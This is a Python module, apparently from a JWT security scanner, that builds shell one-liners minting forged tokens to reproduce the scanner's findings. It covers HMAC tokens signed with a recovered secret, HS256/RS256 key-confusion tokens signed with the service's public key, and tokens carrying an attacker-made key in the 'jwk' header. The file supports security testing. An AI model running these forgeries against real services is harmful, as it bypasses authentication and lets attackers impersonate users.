"""Shell lines that reproduce the jwt probe's findings whose token a curl line cannot carry.

A forged token that holds a secret (a signature made with a guessed secret, a public key or a
key the scan made) shows as a `${NAME}` placeholder in the report, and a reader cannot fill
that in. So such a finding's reproduction mints an equivalent token on the reader's machine
and sends it: `TOKEN=$(python3 -c '...' args) && curl ... -H "Authorization: Bearer $TOKEN"`.
The functions here write the `python3 -c` part (PyJWT and cryptography, as the probe uses);
`Session.reproduce` adds the curl. Every minted token gets `exp` an hour from when the line
runs, so the line works later too. Pure: nothing is sent.

- `hmac_mint`: the token's claims signed with a known secret (as written, or base64- or
  hex-decoded first);
- `confusion_mint`: the token re-signed HS256 with the service's public key, read from the
  JWKS the line fetches first (`$JWKS`), in the byte form the server accepted;
- `jwk_mint`: the token signed RS256 by a fresh key whose public JWK rides in the header.
"""

from __future__ import annotations

import json
import shlex
from typing import Any

#: Seconds from when the line runs to the minted token's `exp`.
HOUR = 3600

_CLAIMS = 'c=json.loads(sys.argv[1]); c["exp"]=int(time.time())+int(sys.argv[2]); '
_HMAC = (
    "import base64,json,sys,time,jwt; " + _CLAIMS + "k=sys.argv[3]; f=sys.argv[6]; "
    'k=base64.b64decode(k+"="*(-len(k)%4),altchars=b"-_" if "-" in k or "_" in k else None) '
    'if f=="base64" else bytes.fromhex(k) if f=="hex" else k.encode(); '
    "print(jwt.encode(c,k,algorithm=sys.argv[4],headers=json.loads(sys.argv[5])))"
)
# PyJWT refuses a PEM as an HMAC key, so the HS256 signature is computed with hmac.
_CONFUSION = (
    "import base64,hashlib,hmac,json,sys,time,jwt; "
    "from cryptography.hazmat.primitives.serialization import Encoding as E, "
    "PublicFormat as P; " + _CLAIMS + "d=json.loads(sys.argv[3]); "
    'e=d.get("keys",[d])[int(sys.argv[4])]; '
    'k=jwt.PyJWK({a:v for a,v in e.items() if a!="alg"}).key; '
    'k=k.public_key() if hasattr(k,"private_bytes") else k; f=sys.argv[5]; '
    'm=k.public_bytes(*{"der":(E.DER,P.SubjectPublicKeyInfo),"pkcs1-pem":(E.PEM,P.PKCS1)}'
    ".get(f,(E.PEM,P.SubjectPublicKeyInfo))); "
    'm=m.rstrip(b"\\n") if f=="pem-no-newline" else m; '
    'b=lambda x:base64.urlsafe_b64encode(x).rstrip(b"=").decode(); '
    'j=lambda x:b(json.dumps(x,separators=(",",":")).encode()); '
    'h=json.loads(sys.argv[6]); h["alg"]="HS256"; i=j(h)+"."+j(c); '
    'print(i+"."+b(hmac.new(m,i.encode(),hashlib.sha256).digest()))'
)
_JWK = (
    "import json,sys,time,jwt; "
    "from cryptography.hazmat.primitives.asymmetric import rsa; "
    "from jwt.algorithms import RSAAlgorithm as R; " + _CLAIMS + "h=json.loads(sys.argv[3]); "
    "k=rsa.generate_private_key(public_exponent=65537,key_size=2048); "
    "w=R.to_jwk(k.public_key(),as_dict=True); "
    'w.update({"kid":h["kid"]} if "kid" in h else {}); h["jwk"]=w; '
    'print(jwt.encode(c,k,algorithm="RS256",headers=h))'
)


def hmac_mint(
    claims: str, secret: str, alg: str, header: dict[str, Any], *, form: str = "", exp: int = HOUR
) -> str:
    """`python3 -c` minting the claims (`claims`, a shell word) signed `alg` with `secret`,
    decoded first when `form` is "base64" or "hex"."""
    return " ".join(
        [
            "python3 -c",
            shlex.quote(_HMAC),
            claims,
            str(exp),
            double_quoted(secret),
            shlex.quote(alg),
            _json_word(_without(header, "alg")),
            shlex.quote(form or "raw"),
        ]
    )


def confusion_mint(claims: str, index: int, form: str, header: dict[str, Any]) -> str:
    """`python3 -c` re-signing the claims HS256 with the public key at `index` of the JWKS in
    `$JWKS`, in the byte form `form` (`pem`, `pem-no-newline`, `pkcs1-pem`, `der`)."""
    return " ".join(
        [
            "python3 -c",
            shlex.quote(_CONFUSION),
            claims,
            str(HOUR),
            '"$JWKS"',
            str(index),
            shlex.quote(form),
            _json_word(_without(header, "alg")),
        ]
    )


def jwk_mint(claims: str, header: dict[str, Any]) -> str:
    """`python3 -c` signing the claims RS256 with a fresh RSA key, its public JWK (and the
    token's `kid`) in the header."""
    kept = _without(_without(header, "alg"), "jwk")
    return " ".join(["python3 -c", shlex.quote(_JWK), claims, str(HOUR), _json_word(kept)])


def double_quoted(text: str) -> str:
    """Double-quoted for a POSIX shell: placeholders the report puts in place of secrets
    (`${NAME}`) stay live, so the line reads them from the environment."""
    escaped = "".join("\\" + c if c in '"\\`$' else c for c in text)
    return f'"{escaped}"'


def claims_word(claims: dict[str, Any]) -> str:
    """The claims without `exp` (the line sets it) as one shell word: double-quoted, so
    that claims the report keeps secret become a live `${NAME}` placeholder."""
    body = {name: value for name, value in claims.items() if name != "exp"}
    return double_quoted(json.dumps(body, separators=(",", ":")))


def claims_text(claims: dict[str, Any]) -> str:
    """The JSON text `claims_word` quotes (to keep it secret when the claims hold one)."""
    body = {name: value for name, value in claims.items() if name != "exp"}
    return json.dumps(body, separators=(",", ":"))


def _json_word(value: dict[str, Any]) -> str:
    return shlex.quote(json.dumps(value, separators=(",", ":")))


def _without(header: dict[str, Any], name: str) -> dict[str, Any]:
    return {key: value for key, value in header.items() if key != name}
